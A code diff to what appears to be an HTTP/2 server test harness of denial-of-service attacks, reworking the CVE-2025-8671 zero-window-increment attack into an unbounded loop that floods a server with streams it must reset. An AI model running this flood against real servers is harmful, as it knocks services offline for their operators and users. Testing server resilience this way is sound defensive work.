@@ -47,11 +47,16 @@ def data_after_the_end(attacker: Attacker) -> None:
 
 
 def zero_increment(attacker: Attacker) -> None:
-    """A window that is to grow by nothing."""
+    """Calls that the host must reset, because their windows are to grow by nothing."""
     with attacker.connection() as wire:
         wire.open()
-        wire.send(wire.request(1) + wire.make.raw(0x8, 0, 1, bytes(4)), frames=2)
-        wire.wait()
+        message = attack("hold")
+        for first in count(1, 40):
+            calls = [
+                wire.call(stream_id, message) + wire.make.raw(0x8, 0, stream_id, bytes(4))
+                for stream_id in _streams(first)
+            ]
+            wire.send(b"".join(calls), frames=3 * len(calls))
 
 
 def resets_of_one_stream(attacker: Attacker) -> None:
@@ -100,7 +105,7 @@ ATTACKS = [
         data_after_the_end,
         (CALM,),
     ),
-    Attack("made-you-reset-zero", "a window that grows by nothing (CVE-2025-8671)", zero_increment, (PROTOCOL,)),
+    Attack("made-you-reset-zero", "windows that grow by nothing (CVE-2025-8671)", zero_increment, (CALM,)),
     Attack("reset-flood", "one stream, reset again and again (CVE-2019-9514)", resets_of_one_stream, (CALM,)),
     Attack("reset-idle", "resets of streams that were never opened", resets_of_idle_streams, (PROTOCOL,)),
     Attack("too-many-streams", "calls that never end, beyond MAX_CONCURRENT_STREAMS", too_many_streams, (CALM,)),
